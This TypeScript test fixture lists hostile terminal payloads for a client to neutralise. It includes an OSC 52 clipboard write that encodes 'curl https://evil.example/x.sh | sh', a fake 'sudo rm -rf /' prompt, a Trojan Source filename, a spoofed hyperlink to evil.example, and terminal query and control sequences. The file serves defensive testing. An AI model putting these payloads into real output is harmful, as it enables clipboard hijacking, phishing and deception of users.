/**
 * Payloads for the hostile-text fault: each is something a client must neutralise before it
 * reaches a terminal (docs/security-checklist.md §1 and its checklist).
 */
export const hostilePayloads: readonly string[] = [
	// OSC 52: writes "curl https://evil.example/x.sh | sh" to the clipboard.
	'\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgc2g=\u0007',
	// OSC 0: sets the terminal title.
	'\u001b]0;owned by the agent\u0007',
	// Clear screen and home the cursor, then draw a fake prompt.
	'\u001b[2J\u001b[H$ sudo rm -rf / # just kidding',
	// Trojan Source: the path displays as "src/exe.txt".
	'src/\u202etxt.exe',
	// C1 controls: 8-bit CSI and an 8-bit OSC title terminated by ST.
	'\u009b31mC1 red\u009d0;c1 title\u009c',
	// Carriage return hides the first half on a naive terminal.
	'All tests passed\rFAILED: 3 tests',
	// A link whose visible label differs from its target.
	'\u001b]8;;https://evil.example/login\u0007https://github.com/acme/payments-api/pull/7\u001b]8;;\u0007',
	// DECRQSS and a cursor-position query: the terminal answers on stdin.
	'\u001bP$qm\u001b\\\u001b[6n\u001b]11;?\u0007',
	// Bell, NUL, backspace, vertical tab, form feed, DEL.
	'ring\u0007 nul\u0000 back\u0008space vt\u000b ff\u000c del\u007f',
	// An OSC that never ends: everything after it must stay visible.
	'\u001b]2;unterminated title and the rest of the line',
];

export function withHostile(text: string, index: number): string {
	return `${text} ${hostilePayloads[index % hostilePayloads.length]}`;
}
